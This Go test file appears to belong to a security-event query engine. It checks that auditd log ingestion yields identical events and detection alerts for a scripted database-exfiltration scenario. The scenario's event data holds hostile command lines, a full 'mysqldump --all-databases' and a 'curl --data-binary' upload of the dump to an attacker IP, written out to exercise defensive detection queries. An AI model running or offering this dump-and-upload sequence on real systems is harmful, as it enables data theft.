package saql

// End-to-end proof for the real-log ingestion layer: decoding the checked-in
// auditd sample and submitting it through a Source yields exactly the same
// events — and therefore alert-for-alert identical detections — as
// submitting the equivalent hand-constructed event stream.

import (
	"bytes"
	"context"
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"saql/internal/event"
	"saql/internal/source"
	"saql/internal/wire"
)

const sampleLogPath = "examples/auditd-replay/sample.log"

// sampleBase is the audit timestamp base of sample.log.
var sampleBase = time.Unix(1582794000, 0).UTC()

// sampleEvents hand-constructs the event stream sample.log encodes: an
// interactive shell on db-1 dumping the database and shipping it to
// 172.16.0.129 (plus background noise). Every field mirrors what the auditd
// codec must produce.
func sampleEvents() []*event.Event {
	at := func(ms int) time.Time { return sampleBase.Add(time.Duration(ms) * time.Millisecond) }
	proc := func(exe string, pid int32) event.Entity {
		return event.Entity{Type: event.EntityProcess, ExeName: exe, PID: pid, User: "0"}
	}
	file := func(path string) event.Entity {
		return event.Entity{Type: event.EntityFile, Path: path}
	}
	attacker := event.Entity{Type: event.EntityNetConn, DstIP: "172.16.0.129", DstPort: 443, Protocol: "tcp"}
	withCmd := func(e event.Entity, cmd string) event.Entity { e.CmdLine = cmd; return e }

	return []*event.Event{
		{Time: at(100), AgentID: "db-1", Subject: proc("sshd", 900), Op: event.OpStart, Object: proc("sshd", 7001)},
		{Time: at(250), AgentID: "db-1", Subject: withCmd(proc("bash", 7001), "bash -i"), Op: event.OpExecute, Object: file("/usr/bin/bash")},
		{Time: at(1000), AgentID: "db-1", Subject: proc("bash", 7001), Op: event.OpStart, Object: proc("bash", 7002)},
		{Time: at(1200), AgentID: "db-1", Subject: withCmd(proc("mysqldump", 7002), "mysqldump --all-databases --result-file=dump.sql"), Op: event.OpExecute, Object: file("/usr/bin/mysqldump")},
		{Time: at(2000), AgentID: "db-1", Subject: proc("mysqldump", 7002), Op: event.OpWrite, Object: file("/var/tmp/dump.sql")},
		{Time: at(2200), AgentID: "db-1", Subject: proc("cron", 801), Op: event.OpRead, Object: file("/etc/crontab")},
		{Time: at(3000), AgentID: "db-1", Subject: proc("bash", 7001), Op: event.OpStart, Object: proc("bash", 7003)},
		{Time: at(3200), AgentID: "db-1", Subject: withCmd(proc("curl", 7003), "curl --data-binary @dump.sql https://172.16.0.129/up"), Op: event.OpExecute, Object: file("/usr/bin/curl")},
		{Time: at(3500), AgentID: "db-1", Subject: proc("curl", 7003), Op: event.OpRead, Object: file("/var/tmp/dump.sql")},
		{Time: at(4000), AgentID: "db-1", Subject: proc("curl", 7003), Op: event.OpConnect, Object: attacker},
		{Time: at(4500), AgentID: "db-1", Subject: proc("curl", 7003), Op: event.OpWrite, Object: attacker, Amount: 524288},
		{Time: at(5000), AgentID: "db-1", Subject: proc("rm", 7004), Op: event.OpDelete, Object: file("/var/tmp/dump.sql")},
		{Time: at(5500), AgentID: "db-1", Subject: proc("curl", 7003), Op: event.OpEnd, Object: proc("curl", 7003)},
	}
}

// sampleQueries are the detection queries of examples/auditd-replay.
var sampleQueries = map[string]string{
	"exfil-chain": `
agentid = "db-1"
proc p1["%mysqldump"] write file f1["%dump.sql"] as evt1
proc p2["%curl"] read file f1 as evt2
proc p2 connect ip i1[dstip="172.16.0.129"] as evt3
with evt1 -> evt2 -> evt3
return distinct p1, f1, p2, i1`,
	"exfil-volume": `
agentid = "db-1"
proc p write ip i1[dstip="172.16.0.129"] as evt #time(10 s)
state ss {
  total := sum(evt.amount)
}
group by p
alert ss.total > 100000
return p, ss.total`,
}

// eventKey renders every field of an event that detection can observe.
func eventKey(ev *event.Event) string {
	return fmt.Sprintf("%s|%s|%q|%q|%s", ev.String(), ev.Subject.User, ev.Subject.CmdLine, ev.Object.CmdLine, ev.AgentID)
}

// TestAuditdSampleDecodesToHandConstructedStream proves the codec layer
// reproduces the hand-built events field for field.
func TestAuditdSampleDecodesToHandConstructedStream(t *testing.T) {
	src, err := source.FromFile(sampleLogPath, source.Config{Format: "auditd", Agent: "db-1"})
	if err != nil {
		t.Fatal(err)
	}
	var got []*event.Event
	sink := submitFunc(func(evs []*event.Event) error {
		got = append(got, evs...)
		return nil
	})
	if err := src.Run(context.Background(), sink); err != nil {
		t.Fatal(err)
	}

	want := sampleEvents()
	if len(got) != len(want) {
		t.Fatalf("decoded %d events, want %d", len(got), len(want))
	}
	for i := range want {
		if eventKey(got[i]) != eventKey(want[i]) {
			t.Errorf("event %d:\n  got  %s\n  want %s", i, eventKey(got[i]), eventKey(want[i]))
		}
	}
	st := src.Stats()
	if st.DecodeErrors != 1 {
		t.Errorf("decode errors = %d, want 1 (the deliberately malformed line)", st.DecodeErrors)
	}
}

type submitFunc func([]*event.Event) error

func (f submitFunc) SubmitBatch(evs []*event.Event) error { return f(evs) }

// TestAuditdSampleAlertEquivalence proves the full pipeline: sample.log
// through Source → SubmitBatch raises alert-for-alert identical detections
// to the hand-constructed stream.
func TestAuditdSampleAlertEquivalence(t *testing.T) {
	runQueries := func(feed func(eng *Engine) error) []string {
		t.Helper()
		var alerts []string
		eng := New(WithShards(4), WithAlertHandler(func(a *Alert) { alerts = append(alerts, a.String()) }))
		for name, src := range sampleQueries {
			if _, err := eng.Register(name, src); err != nil {
				t.Fatalf("%s: %v", name, err)
			}
		}
		if err := eng.Start(context.Background()); err != nil {
			t.Fatal(err)
		}
		if err := feed(eng); err != nil {
			t.Fatal(err)
		}
		if err := eng.Close(); err != nil {
			t.Fatal(err)
		}
		sort.Strings(alerts)
		return alerts
	}

	fromLog := runQueries(func(eng *Engine) error {
		src, err := OpenLogFile(sampleLogPath, WithFormat("auditd"), WithSourceAgent("db-1"))
		if err != nil {
			return err
		}
		return src.Run(context.Background(), eng)
	})
	fromHand := runQueries(func(eng *Engine) error {
		return eng.SubmitBatch(sampleEvents())
	})

	if len(fromLog) == 0 {
		t.Fatal("no alerts from the decoded sample")
	}
	if strings.Join(fromLog, "\n") != strings.Join(fromHand, "\n") {
		t.Errorf("alerts differ:\nfrom log:\n  %s\nfrom hand-built events:\n  %s",
			strings.Join(fromLog, "\n  "), strings.Join(fromHand, "\n  "))
	}
	// Both families fired.
	joined := strings.Join(fromLog, "\n")
	for _, q := range []string{"exfil-chain", "exfil-volume"} {
		if !strings.Contains(joined, "query="+q) {
			t.Errorf("query %s raised no alert:\n%s", q, joined)
		}
	}
}

// TestSourceStatsSurfaceInEngineStats checks the per-source counters
// aggregate into Engine.Stats.
func TestSourceStatsSurfaceInEngineStats(t *testing.T) {
	eng := New(WithShards(1))
	if _, err := eng.Register("any", `proc p read file f return p, f`); err != nil {
		t.Fatal(err)
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	src, err := OpenLogFile(sampleLogPath, WithFormat("auditd"), WithSourceAgent("db-1"))
	if err != nil {
		t.Fatal(err)
	}
	if err := src.Run(context.Background(), eng); err != nil {
		t.Fatal(err)
	}
	defer eng.Close()

	st := eng.Stats()
	// A finished source detaches (Sources counts live sources only); its
	// counters below must survive the detach in the engine's totals.
	if st.Sources != 0 {
		t.Errorf("Sources = %d, want 0 after Run returned", st.Sources)
	}
	if st.SourceEvents != 13 || st.DecodeErrors != 1 {
		t.Errorf("SourceEvents=%d DecodeErrors=%d, want 13/1", st.SourceEvents, st.DecodeErrors)
	}
	if st.SourceLines == 0 {
		t.Error("SourceLines not surfaced")
	}
	if st.Events != st.SourceEvents {
		t.Errorf("engine accepted %d events, source decoded %d", st.Events, st.SourceEvents)
	}
}

// TestSourceRequiresRunningEngine pins the lifecycle contract.
func TestSourceRequiresRunningEngine(t *testing.T) {
	eng := New()
	src, err := OpenLogFile(sampleLogPath, WithFormat("auditd"))
	if err != nil {
		t.Fatal(err)
	}
	if err := src.Run(context.Background(), eng); err != ErrNotRunning {
		t.Fatalf("Run on unstarted engine = %v, want ErrNotRunning", err)
	}
}

// TestSourceKindsSubmitIdenticalBatches: one feed means one batcher. The
// same event slice — as NDJSON lines through a reader source, as events
// through a producer source, and replayed from a store — reaches the
// submitter as byte-identical batch sequences: same cuts, same in-batch time
// sort, same order of equal timestamps.
func TestSourceKindsSubmitIdenticalBatches(t *testing.T) {
	base := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)
	var evs []*Event
	var lines strings.Builder
	for i := 0; i < 21; i++ {
		at := base.Add(time.Duration(i/2) * time.Second) // pairs share a timestamp
		evs = append(evs, &Event{
			Time: at, AgentID: "db-1",
			Subject: Process("svc.exe", int32(10+i)), Op: OpWrite,
			Object: NetConn("10.0.0.2", 1433, "10.0.0.9", 443), Amount: float64(100 + i),
		})
	}
	evs[2], evs[5] = evs[5], evs[2] // out of order inside the first batch of 8
	for _, ev := range evs {
		fmt.Fprintf(&lines, `{"ts":%q,"agent":"db-1","subject":{"type":"proc","exe":"svc.exe","pid":%d},"op":"write","object":{"type":"ip","src_ip":"10.0.0.2","src_port":1433,"dst_ip":"10.0.0.9","dst_port":443},"amount":%g}`+"\n",
			ev.Time.Format(time.RFC3339Nano), ev.Subject.PID, ev.Amount)
	}
	dir := t.TempDir()
	store, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if err := store.AppendAll(evs); err != nil {
		t.Fatal(err)
	}
	defer store.Close()

	// Only full batches and the end of input cut a batch here, never the
	// wall-clock flush.
	opts := []SourceOption{WithBatchSize(8), func(c *source.Config) { c.FlushInterval = time.Hour }}
	reader, err := NewSource(strings.NewReader(lines.String()), opts...)
	if err != nil {
		t.Fatal(err)
	}
	kinds := []struct {
		name string
		src  *Source
	}{
		{"reader", reader},
		{"producer", NewEventSource("slice", func(_ context.Context, emit func(*Event) error) error {
			for _, ev := range evs {
				if err := emit(ev); err != nil {
					return err
				}
			}
			return nil
		}, opts...)},
		{"replay", NewReplaySource(NewReplayer(store), ReplayOptions{}, opts...)},
	}
	var want [][]byte
	for _, k := range kinds {
		var got [][]byte
		err := k.src.Run(context.Background(), submitFunc(func(batch []*event.Event) error {
			var b []byte
			for _, ev := range batch {
				b = wire.AppendEvent(b, ev)
			}
			got = append(got, b)
			return nil
		}))
		if err != nil {
			t.Fatalf("%s: %v", k.name, err)
		}
		// (The replayer hands its events over already sorted, so equal bytes
		// also say the other two kinds sorted the swapped pair into place.)
		if st := k.src.Stats(); st.Events != 21 || st.Batches != 3 {
			t.Errorf("%s: stats %+v, want 21 events in 3 batches", k.name, st)
		}
		if want == nil {
			want = got
			continue
		}
		if len(got) != len(want) {
			t.Fatalf("%s: %d batches, reader source submitted %d", k.name, len(got), len(want))
		}
		for i := range want {
			if !bytes.Equal(got[i], want[i]) {
				t.Errorf("%s: batch %d differs from the reader source's", k.name, i)
			}
		}
	}
}
